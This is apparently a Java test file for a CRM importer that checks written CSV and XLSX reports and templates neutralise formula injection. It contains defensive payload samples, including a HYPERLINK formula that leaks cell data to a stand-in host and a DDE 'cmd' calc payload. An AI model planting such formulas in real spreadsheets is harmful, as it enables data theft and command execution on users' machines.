package dev.crmkit.importer;

import static org.assertj.core.api.Assertions.assertThat;

import dev.crmkit.core.Actor;
import dev.crmkit.core.Crm;
import dev.crmkit.core.TenantId;
import dev.crmkit.core.importjob.JobStatus;
import dev.crmkit.core.customer.Customer;
import dev.crmkit.core.field.CustomFieldDefinition;
import dev.crmkit.core.field.FieldType;
import dev.crmkit.importer.report.ReportFormat;
import dev.crmkit.inmemory.InMemoryStorage;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.io.StringReader;
import java.io.StringWriter;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVPrinter;
import org.apache.commons.csv.CSVRecord;
import org.apache.commons.compress.archivers.zip.ZipArchiveEntry;
import org.apache.commons.compress.archivers.zip.ZipFile;
import org.apache.commons.compress.utils.SeekableInMemoryByteChannel;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.ss.usermodel.Workbook;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;

/**
 * Every file the library writes, the error reports and the import templates, in CSV and XLSX,
 * with formula-like text arriving through the real paths (rejected rows of imported CSV and XLSX
 * files, header names, custom field labels and options): no cell begins with a character that
 * makes a spreadsheet evaluate it, XLSX cells are string cells and never formulas, and the
 * neutralised files import again to the very values the original would have given.
 *
 * <p>Besides {@code = + - @}, tab and carriage return (OWASP's list), a line feed and the
 * full-width forms {@code ＝ ＋ － ＠} are neutralised: OWASP's CSV injection page now lists the line
 * feed, and Excel in East Asian locales takes a full-width operator typed or opened at the start of
 * a cell as the start of a formula (OWASP/www-community issue 1088 shows {@code ＝cmd|...}
 * running). The cost is an apostrophe, which the importer drops again.
 */
class WrittenFilesInjectionTest {

    private static final TenantId ACME = TenantId.of("acme");

    /** What no written cell may start with. */
    static final Set<Character> FORMULA_STARTS = Set.of('=', '+', '-', '@', '\t', '\r', '\n',
            '\uFF1D', '\uFF0B', '\uFF0D', '\uFF20');

    /** Formula-like texts, one a row, in the name, company, address and a custom field. */
    static final List<String> PAYLOADS = List.of(
            "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"tıkla\")",
            "+1+1",
            "-2+3",
            "@SUM(A1:A9)",
            "\t=1+1",
            "\r=1+1",
            "\n=1+1",
            "\uFF1DHYPERLINK(\"http://evil.example\")",
            "\uFF0B1+1",
            "\uFF0D2+3",
            "\uFF20SUM(A1)",
            "=cmd|' /C calc'!A0");

    /** A header that is a formula: an unknown column, reported as a warning and ignored. */
    private static final String EVIL_HEADER = "=HYPERLINK(\"http://evil.example\",\"başlık\")";
    private static final List<String> HEADER = List.of("İsim", "Telefon", "Şirket", "Adres", "Not", EVIL_HEADER);

    @TempDir
    Path dir;

    private final Actor admin = Actor.admin(ACME, "boss");

    @BeforeEach
    void checkPayloads() {
        for (String p : PAYLOADS) {
            assertThat(FORMULA_STARTS).contains(p.charAt(0));
        }
    }

    private Crm newCrm() {
        Crm crm = Crm.builder(InMemoryStorage.create()).build();
        crm.customFields().define(admin, CustomFieldDefinition.builder("note", "Not", FieldType.TEXT).build());
        return crm;
    }

    /** Row i: the payload in four columns and an invalid phone 999000i, which a correction replaces. */
    private static List<List<String>> rows() {
        List<List<String>> rows = new ArrayList<>();
        for (int i = 0; i < PAYLOADS.size(); i++) {
            String p = PAYLOADS.get(i);
            rows.add(List.of(p, invalidPhone(i), p, p, p, p));
        }
        // And one whose phone itself looks like a formula.
        rows.add(List.of("@SUM(A1)", "+1+1", "-1", "=1", "+2", "@3"));
        return rows;
    }

    private static String invalidPhone(int i) {
        return "99900" + (10 + i);
    }

    private static String validPhone(int i) {
        return "+90530000" + (1000 + i);
    }

    private Path input(ReportFormat format, List<List<String>> rows) throws IOException {
        if (format == ReportFormat.CSV) {
            Path file = dir.resolve("girdi-" + System.nanoTime() + ".csv");
            StringWriter text = new StringWriter();
            try (CSVPrinter csv = new CSVPrinter(text, CSVFormat.RFC4180.builder().setDelimiter(';').get())) {
                csv.printRecord(HEADER);
                for (List<String> row : rows) {
                    csv.printRecord(row);
                }
            }
            return Files.writeString(file, text.toString(), StandardCharsets.UTF_8);
        }
        Path file = dir.resolve("girdi-" + System.nanoTime() + ".xlsx");
        try (XSSFWorkbook wb = new XSSFWorkbook()) {
            Sheet sheet = wb.createSheet("Müşteriler");
            cells(sheet.createRow(0), HEADER);
            for (int r = 0; r < rows.size(); r++) {
                cells(sheet.createRow(r + 1), rows.get(r));
            }
            // A formula cell whose cached result looks like a formula: read as its result, text.
            Row last = sheet.createRow(rows.size() + 1);
            last.createCell(0).setCellFormula("\"=\"&\"1+1\"");
            last.getCell(0).setCellValue("=1+1");
            last.createCell(1).setCellValue("12");
            try (OutputStream out = Files.newOutputStream(file)) {
                wb.write(out);
            }
        }
        return file;
    }

    private static void cells(Row row, List<String> values) {
        for (int c = 0; c < values.size(); c++) {
            row.createCell(c).setCellValue(values.get(c));
        }
    }

    private static byte[] errorReport(Importer importer, Actor actor, long jobId, ReportFormat format) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        importer.writeErrorReport(actor, jobId, out, format);
        return out.toByteArray();
    }

    // ------------------------------------------------------------------------------- error reports

    @ParameterizedTest(name = "{0} input")
    @EnumSource(ReportFormat.class)
    @DisplayName("both error reports of an import neutralise every formula-like cell: original cells, headers,"
            + " report columns")
    void errorReportsNeutraliseFormulaLikeCells(ReportFormat inputFormat) throws IOException {
        Crm crm = newCrm();
        Importer importer = Importer.builder(crm).workDir(dir).build();
        ImportReport report = importer.importFile(admin, input(inputFormat, rows()), ImportOptions.defaults());
        assertThat(report.created()).isZero();
        assertThat(report.rejected()).isGreaterThanOrEqualTo(PAYLOADS.size() + 1);

        List<List<String>> csv = csvCells(errorReport(importer, admin, report.jobId(), ReportFormat.CSV));
        List<List<String>> xlsx = xlsxCells(errorReport(importer, admin, report.jobId(), ReportFormat.XLSX));

        for (List<List<String>> table : List.of(csv, xlsx)) {
            assertNoFormulaStart(table);
            assertThat(table.get(0)).contains("'" + EVIL_HEADER);
            List<String> written = table.stream().flatMap(List::stream).toList();
            for (String p : PAYLOADS) {
                assertThat(written).as("the payload %s, neutralised", p).contains("'" + p);
            }
        }
        assertThat(csv).isEqualTo(xlsx);
    }

    @ParameterizedTest(name = "{0} report")
    @EnumSource(ReportFormat.class)
    @DisplayName("a corrected error report imports to exactly the values the corrected original gives")
    void correctedReportImportsToTheOriginalValues(ReportFormat reportFormat) throws IOException {
        Crm first = newCrm();
        Importer importer = Importer.builder(first).workDir(dir).build();
        ImportReport report = importer.importFile(admin, input(ReportFormat.CSV, rows()), ImportOptions.defaults());
        byte[] errors = errorReport(importer, admin, report.jobId(), reportFormat);

        Path corrected = dir.resolve("duzeltilmis." + reportFormat.name().toLowerCase());
        Files.write(corrected, correctPhones(errors, reportFormat));
        ImportReport again = importer.importFile(admin, corrected, ImportOptions.defaults());

        Crm reference = newCrm();
        List<List<String>> fixedRows = new ArrayList<>();
        for (List<String> row : rows()) {
            List<String> fixed = new ArrayList<>(row);
            for (int i = 0; i < PAYLOADS.size(); i++) {
                if (fixed.get(1).equals(invalidPhone(i))) {
                    fixed.set(1, validPhone(i));
                }
            }
            fixedRows.add(fixed);
        }
        ImportReport direct = Importer.builder(reference).workDir(dir).build()
                .importFile(admin, input(ReportFormat.CSV, fixedRows), ImportOptions.defaults());

        assertThat(again.status()).isEqualTo(JobStatus.COMPLETED);
        assertThat(again.created()).isEqualTo(PAYLOADS.size()).isEqualTo(direct.created());
        assertThat(again.rejected()).isEqualTo(direct.rejected()).isEqualTo(1);
        for (int i = 0; i < PAYLOADS.size(); i++) {
            Customer viaReport = first.customers().findByPhone(admin, validPhone(i)).orElseThrow();
            Customer viaOriginal = reference.customers().findByPhone(admin, validPhone(i)).orElseThrow();
            assertThat(values(viaReport)).as(PAYLOADS.get(i)).isEqualTo(values(viaOriginal));
            assertThat(viaReport.customFields().get("note")).isEqualTo(PAYLOADS.get(i).strip());
        }
    }

    private static List<Object> values(Customer c) {
        return List.of(c.fullName(), String.valueOf(c.company()), String.valueOf(c.address()), c.customFields());
    }

    /** The report with each invalid phone 999000i replaced by a valid one, as a user would correct it. */
    private static byte[] correctPhones(byte[] report, ReportFormat format) throws IOException {
        if (format == ReportFormat.CSV) {
            String text = new String(report, StandardCharsets.UTF_8);
            for (int i = 0; i < PAYLOADS.size(); i++) {
                text = text.replace(";" + invalidPhone(i) + ";", ";" + validPhone(i) + ";");
            }
            return text.getBytes(StandardCharsets.UTF_8);
        }
        try (XSSFWorkbook wb = new XSSFWorkbook(new ByteArrayInputStream(report))) {
            for (Row row : wb.getSheetAt(0)) {
                Cell phone = row.getCell(1);
                for (int i = 0; i < PAYLOADS.size(); i++) {
                    if (phone != null && phone.getStringCellValue().equals(invalidPhone(i))) {
                        // A new cell: POI edits an inline-string cell by adding a value Excel does not read.
                        row.removeCell(phone);
                        row.createCell(1).setCellValue(validPhone(i));
                        break;
                    }
                }
            }
            ByteArrayOutputStream out = new ByteArrayOutputStream();
            wb.write(out);
            return out.toByteArray();
        }
    }

    // ----------------------------------------------------------------------------------- templates

    @ParameterizedTest(name = "{0}")
    @EnumSource(ReportFormat.class)
    @DisplayName("the import template neutralises custom field labels and options, and imports as it is")
    void templateNeutralisesLabelsAndOptions(ReportFormat format) throws IOException {
        Crm crm = Crm.builder(InMemoryStorage.create()).build();
        Map<String, String> labels = new LinkedHashMap<>();
        labels.put("evil", "=HYPERLINK(\"http://evil.example\",\"x\")");
        labels.put("puan", "+Puan");
        labels.put("tarih", "@Tarih");
        labels.put("onay", "-Onay");
        labels.put("secim", "\uFF1DSeçim");
        labels.put("etiket", "\uFF20Etiket");
        labels.put("kanal", "\uFF0BKanal");
        labels.put("bolge", "\uFF0DBölge");
        crm.customFields().define(admin, CustomFieldDefinition.builder("evil", labels.get("evil"), FieldType.TEXT).build());
        crm.customFields().define(admin, CustomFieldDefinition.builder("puan", labels.get("puan"), FieldType.NUMBER).build());
        crm.customFields().define(admin, CustomFieldDefinition.builder("tarih", labels.get("tarih"), FieldType.DATE).build());
        crm.customFields().define(admin, CustomFieldDefinition.builder("onay", labels.get("onay"), FieldType.BOOLEAN).build());
        crm.customFields().define(admin, CustomFieldDefinition.builder("secim", labels.get("secim"), FieldType.SINGLE_SELECT)
                .options("=A", "+B").build());
        crm.customFields().define(admin, CustomFieldDefinition.builder("etiket", labels.get("etiket"), FieldType.MULTI_SELECT)
                .options("@x", "-y").build());
        crm.customFields().define(admin, CustomFieldDefinition.builder("kanal", labels.get("kanal"), FieldType.SINGLE_SELECT)
                .options("\uFF1DTelefon", "E-posta").build());
        crm.customFields().define(admin, CustomFieldDefinition.builder("bolge", labels.get("bolge"), FieldType.TEXT).build());
        Importer importer = Importer.builder(crm).workDir(dir).build();

        ByteArrayOutputStream out = new ByteArrayOutputStream();
        importer.writeTemplate(admin, out, format);
        List<List<String>> cells = format == ReportFormat.CSV ? csvCells(out.toByteArray()) : xlsxCells(out.toByteArray());

        assertNoFormulaStart(cells);
        for (String label : labels.values()) {
            assertThat(cells.get(0)).contains("'" + label);
        }
        assertThat(cells.get(1)).contains("'=A", "'@x", "'\uFF1DTelefon");
        if (format == ReportFormat.XLSX) {
            // The dropdowns of the two single-select fields list their options on the second
            // sheet, neutralised as every other cell (the import drops the apostrophe again).
            try (Workbook wb = new XSSFWorkbook(new ByteArrayInputStream(out.toByteArray()))) {
                assertThat(wb.getNumberOfSheets()).isEqualTo(2);
                List<List<String>> lists = sheetCells(wb, 1);
                assertNoFormulaStart(lists);
                assertThat(lists.stream().flatMap(List::stream)).contains("'=A", "'+B", "'\uFF1DTelefon", "E-posta");
            }
        }

        Path template = exampleBelowMarker(out.toByteArray(), format);
        ImportReport imported = importer.importFile(admin, template, ImportOptions.defaults());
        assertThat(imported.status()).isEqualTo(JobStatus.COMPLETED);
        assertThat(imported.created()).isEqualTo(1);
        assertThat(imported.warnings()).isEmpty();
        Customer example = crm.customers().findByPhone(admin, "+905301234567").orElseThrow();
        assertThat(example.customFields()).containsEntry("secim", "=A").containsEntry("kanal", "\uFF1DTelefon")
                .containsEntry("etiket", List.of("@x"));
    }

    /**
     * The template with its example row copied below the marker row, as a user fills it in: the
     * example itself is not imported.
     */
    private Path exampleBelowMarker(byte[] template, ReportFormat format) throws IOException {
        Path file = dir.resolve("ornek." + format.name().toLowerCase());
        if (format == ReportFormat.CSV) {
            String text = new String(template, StandardCharsets.UTF_8);
            List<String> lines = text.lines().toList();
            assertThat(lines).hasSize(3);
            Files.writeString(file, text + lines.get(1) + "\r\n", StandardCharsets.UTF_8);
            return file;
        }
        try (Workbook wb = new XSSFWorkbook(new java.io.ByteArrayInputStream(template))) {
            Sheet sheet = wb.getSheetAt(0);
            Row example = sheet.getRow(1);
            Row copy = sheet.createRow(3);
            for (Cell c : example) {
                copy.createCell(c.getColumnIndex()).setCellValue(c.getStringCellValue());
            }
            try (java.io.OutputStream written = Files.newOutputStream(file)) {
                wb.write(written);
            }
        }
        return file;
    }

    // -------------------------------------------------------------------------------------- checks

    /** Every cell of a CSV file as the library writes it: UTF-8 with a byte order mark, {@code ;}. */
    static List<List<String>> csvCells(byte[] bytes) throws IOException {
        assertThat(bytes).startsWith(0xEF, 0xBB, 0xBF);
        String text = new String(bytes, 3, bytes.length - 3, StandardCharsets.UTF_8);
        List<List<String>> rows = new ArrayList<>();
        try (var parser = CSVFormat.RFC4180.builder().setDelimiter(';').get().parse(new StringReader(text))) {
            for (CSVRecord r : parser) {
                rows.add(r.toList());
            }
        }
        return rows;
    }

    /**
     * Every cell of an XLSX file's first sheet, checking on the way that each cell of every sheet
     * is a string cell (no formula, no number; in the sheet XML no {@code <f>} element at all),
     * and that no cell of a further sheet starts a formula.
     */
    static List<List<String>> xlsxCells(byte[] bytes) throws IOException {
        try (ZipFile zip = ZipFile.builder().setSeekableByteChannel(new SeekableInMemoryByteChannel(bytes)).get()) {
            for (ZipArchiveEntry e : java.util.Collections.list(zip.getEntries())) {
                if (e.getName().startsWith("xl/worksheets/")) {
                    String xml = new String(zip.getInputStream(e).readAllBytes(), StandardCharsets.UTF_8);
                    assertThat(xml).doesNotContain("<f>").doesNotContain("<f ");
                }
            }
        }
        try (Workbook wb = new XSSFWorkbook(new ByteArrayInputStream(bytes))) {
            for (int sheet = 1; sheet < wb.getNumberOfSheets(); sheet++) {
                assertNoFormulaStart(sheetCells(wb, sheet));
            }
            return sheetCells(wb, 0);
        }
    }

    /** The cells of one sheet, each checked to be a string cell. */
    static List<List<String>> sheetCells(Workbook wb, int sheet) {
        List<List<String>> rows = new ArrayList<>();
        for (Row row : wb.getSheetAt(sheet)) {
            List<String> cells = new ArrayList<>();
            for (int c = 0; c < row.getLastCellNum(); c++) {
                Cell cell = row.getCell(c);
                if (cell == null) {
                    cells.add("");
                    continue;
                }
                assertThat(cell.getCellType()).as("cell %s", cell.getAddress()).isEqualTo(CellType.STRING);
                cells.add(cell.getStringCellValue());
            }
            rows.add(cells);
        }
        return rows;
    }

    static void assertNoFormulaStart(List<List<String>> rows) {
        for (int r = 0; r < rows.size(); r++) {
            for (int c = 0; c < rows.get(r).size(); c++) {
                String cell = rows.get(r).get(c);
                if (!cell.isEmpty()) {
                    assertThat(FORMULA_STARTS).as("the first character of row %d, cell %d: %s", r + 1, c + 1, cell)
                            .doesNotContain(cell.charAt(0));
                }
            }
        }
    }
}
